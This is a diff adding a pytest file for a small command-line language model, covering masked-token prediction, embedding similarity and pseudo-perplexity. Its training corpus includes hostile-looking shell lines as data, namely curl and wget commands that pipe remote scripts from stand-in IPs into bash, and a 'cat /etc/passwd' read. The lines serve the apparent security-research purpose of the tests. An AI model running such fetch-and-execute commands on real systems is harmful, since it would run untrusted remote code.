@@ -1,0 +1,98 @@
+"""Tests for MaskedPredictor, EmbeddingExplorer, and pseudo-perplexity."""
+
+import numpy as np
+import pytest
+
+from repro.lm import (
+    CommandEncoder,
+    CommandLineLM,
+    EmbeddingExplorer,
+    LMConfig,
+    MaskedPredictor,
+    MLMCollator,
+    Pretrainer,
+    pseudo_perplexity,
+)
+from repro.tokenizer import BPETokenizer
+
+CORPUS = [
+    "curl http://203.0.113.7/install.sh | bash",
+    "wget http://203.0.113.9/a.sh | bash",
+    "ls -la /tmp",
+    "docker ps -a",
+    "cat /etc/passwd",
+    "grep error /var/log/app.log",
+] * 25
+
+
+@pytest.fixture(scope="module")
+def encoder():
+    tokenizer = BPETokenizer(vocab_size=400).train(CORPUS)
+    config = LMConfig.tiny(vocab_size=len(tokenizer.vocab))
+    model = CommandLineLM(config)
+    collator = MLMCollator(tokenizer, max_length=config.max_position, seed=0)
+    Pretrainer(model, collator, lr=3e-3, batch_size=16, seed=0).train(CORPUS, epochs=5)
+    return CommandEncoder(model, tokenizer)
+
+
+class TestMaskedPredictor:
+    def test_returns_topk(self, encoder):
+        predictions = MaskedPredictor(encoder).predict("[MASK] http://x/a.sh | bash", top_k=3)
+        assert len(predictions) == 3
+        assert all(0.0 <= p.probability <= 1.0 for p in predictions)
+
+    def test_probabilities_descending(self, encoder):
+        predictions = MaskedPredictor(encoder).predict("docker [MASK] -a", top_k=5)
+        probs = [p.probability for p in predictions]
+        assert probs == sorted(probs, reverse=True)
+
+    def test_paper_example_prefers_fetcher(self, encoder):
+        """Sec. II-B: the mask before a pipe-to-bash URL should be a
+        fetch command after enough pre-training on this tiny corpus."""
+        top = MaskedPredictor(encoder).paper_example(top_k=3)
+        names = {p.token.replace("▁", "") for p in top}
+        assert names & {"curl", "wget"}
+
+    def test_requires_mask_placeholder(self, encoder):
+        with pytest.raises(ValueError):
+            MaskedPredictor(encoder).predict("ls -la")
+
+    def test_mask_mid_sentence(self, encoder):
+        predictions = MaskedPredictor(encoder).predict("ls [MASK] /tmp", top_k=2)
+        assert len(predictions) == 2
+
+
+class TestEmbeddingExplorer:
+    def test_self_is_nearest(self, encoder):
+        corpus = list(set(CORPUS))
+        explorer = EmbeddingExplorer(encoder, corpus)
+        line = corpus[0]
+        neighbours = explorer.neighbours(line, k=1)
+        assert neighbours[0][0] == line
+        assert neighbours[0][1] == pytest.approx(1.0, abs=1e-9)
+
+    def test_similarity_symmetric(self, encoder):
+        explorer = EmbeddingExplorer(encoder, ["ls"])
+        a = explorer.similarity("ls -la /tmp", "docker ps -a")
+        b = explorer.similarity("docker ps -a", "ls -la /tmp")
+        assert a == pytest.approx(b)
+
+    def test_neighbour_count_capped(self, encoder):
+        explorer = EmbeddingExplorer(encoder, ["ls", "pwd"])
+        assert len(explorer.neighbours("ls", k=10)) == 2
+
+
+class TestPseudoPerplexity:
+    def test_in_domain_lower_than_shuffled(self, encoder):
+        in_domain = pseudo_perplexity(encoder, CORPUS[:40], seed=1)
+        gibberish = pseudo_perplexity(
+            encoder, ["zq xv wk jj j9 qq" for _ in range(40)], seed=1
+        )
+        assert in_domain < gibberish
+
+    def test_finite_and_positive(self, encoder):
+        value = pseudo_perplexity(encoder, CORPUS[:20])
+        assert np.isfinite(value) and value > 1.0
+
+    def test_empty_lines_give_inf(self, encoder):
+        assert pseudo_perplexity(encoder, []) == float("inf")
